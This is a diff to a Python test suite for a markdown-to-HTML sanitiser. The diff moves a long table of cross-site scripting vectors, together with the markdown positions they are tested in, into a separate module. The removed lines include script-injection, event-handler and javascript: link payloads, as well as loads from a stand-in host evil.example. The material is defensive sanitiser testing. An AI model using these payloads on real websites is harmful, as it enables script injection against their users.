@@ -9,96 +9,8 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from campaigns import text
+from tests.markdown_payloads import POSITIONS, VECTORS
 
-# What scripts, styles and fetches have been smuggled in as, written for this table.
-VECTORS = [
-    "<script>alert(1)</script>",
-    "<ScRiPt src=//evil.example/x.js></sCrIpT >",
-    "<script\n>alert(1)</script\n>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<img src=x onerror=alert(1)>",
-    "<img src=x onerror\n=alert(1)//",
-    "<IMG SRC=`javascript:alert(1)`>",
-    '<img """><script>alert(1)</script>">',
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<svg><style><img src=x onerror=alert(1)></style></svg>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    "<iframe src=javascript:alert(1)></iframe>",
-    "<iframe srcdoc='<script>alert(1)</script>'>",
-    "<object data=//evil.example/x.swf></object>",
-    "<embed src=//evil.example/x>",
-    "<base href=//evil.example/>",
-    "<link rel=stylesheet href=//evil.example/x.css>",
-    "<link rel=attachment href=file:///etc/passwd>",
-    "<a rel=attachment href=file:///etc/passwd>x</a>",
-    "<style>@import '//evil.example/x.css';</style>",
-    "<p style='background:url(//evil.example/x)'>x</p>",
-    "<meta http-equiv=refresh content='0;url=//evil.example'>",
-    "<form action=//evil.example><button>x</button></form>",
-    "<input autofocus onfocus=alert(1)>",
-    "<details open ontoggle=alert(1)>x</details>",
-    "<video><source onerror=alert(1)></video>",
-    "<audio src=//evil.example/x autoplay>",
-    "<body onload=alert(1)>",
-    "<marquee onstart=alert(1)>x</marquee>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "<template><script>alert(1)</script></template>",
-    "<!--><img src=x onerror=alert(1)>-->",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<?php echo 1 ?><script>alert(1)</script>",
-    "</p></article><script>alert(1)</script>",
-    '"><script>alert(1)</script>',
-    "'-alert(1)-'",
-    "\u0000<script>alert(1)</script>",
-    "<script/\u0001src=//evil.example>",
-    "＜script＞alert(1)＜/script＞",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#60;script&#62;alert(1)&#60;/script&#62;",
-    "<javascript:alert(1)>",
-    "<vbscript:msgbox(1)>",
-    "<data:text/html,<script>alert(1)</script>>",
-    '<https://x.example/"onmouseover=alert(1)>',
-    "[x](javascript:alert(1))",
-    "[x](JaVaScRiPt:alert(1))",
-    "[x](java\tscript:alert(1))",
-    "[x](&#106;avascript:alert(1))",
-    "[x](&#x6A&#x61;vascript:alert(1))",
-    "[x](javascript&colon;alert(1))",
-    "[x](\u0001javascript:alert(1))",
-    "[x](<javascript:alert(1)>)",
-    "[x](  javascript:alert(1))",
-    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    "[x](vbscript:msgbox(1))",
-    "[x](file:///etc/passwd)",
-    "[x](blob:https://x.example/1)",
-    "[x](//evil.example/x)",
-    "[x](/accounts/logout/)",
-    "[x](https:javascript:alert(1))",
-    '[x](https://x.example "onclick=alert(1)")',
-    '[x](https://x.example"onclick="alert(1))',
-    "[x]: javascript:alert(1)\n\n[x]",
-    "![x](https://evil.example/pixel.png)",
-    "![x](javascript:alert(1))",
-    "![x][y]\n\n[y]: https://evil.example/pixel.png",
-    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
-    "`<script>alert(1)</script>`",
-    "``` <img/src=x/onerror=alert(1)>\nx\n```",
-]
-POSITIONS = [
-    "{}",
-    "Dear Minister, {} and so on",
-    "# {}",
-    "> {}",
-    "- one\n- {}\n- three",
-    "1. {}",
-    "**{}**",
-    "[{}](https://x.example)",
-    "[text](https://x.example/{})",
-    "    {}",
-    "```\n{}\n```",
-    "a\n\n{}\n\nb",
-]
 ALLOWED = {
     "div",
     "p",
@@ -138,7 +50,9 @@ def complaints(html: str) -> list[str]:
                 ("ol", "start"),
             }:
                 found.append(f"attribute {name}")
-            if name == "href" and not value.lower().startswith(("https://", "http://", "mailto:")):
+            if name == "href" and not value.lower().startswith(
+                ("https://", "http://", "mailto:")
+            ):
                 found.append(f"address {value}")
     return found
 
@@ -180,7 +94,10 @@ def test_links_are_marked_for_search_engines_and_lead_out_safely():
 
 
 def test_an_image_becomes_a_link_and_fetches_nothing():
-    tags = [element.tag for element in parsed(text.to_html("![weir](https://x.example/w.png)"))]
+    tags = [
+        element.tag
+        for element in parsed(text.to_html("![weir](https://x.example/w.png)"))
+    ]
     assert tags == ["p", "a"]
 
 
